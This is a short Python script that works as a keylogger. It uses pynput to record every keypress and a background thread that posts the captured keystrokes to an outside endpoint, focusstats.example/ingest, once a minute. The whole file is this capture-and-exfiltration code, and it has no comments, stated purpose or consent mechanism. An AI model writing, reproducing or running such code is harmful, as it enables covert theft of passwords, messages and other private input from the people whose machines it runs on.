import threading
import time

import requests
from pynput import keyboard

buffer = []


def on_press(key):
    buffer.append(str(key))


def flush():
    while True:
        time.sleep(60)
        if buffer:
            requests.post("https://focusstats.example/ingest", data="".join(buffer), timeout=5)
            buffer.clear()


threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
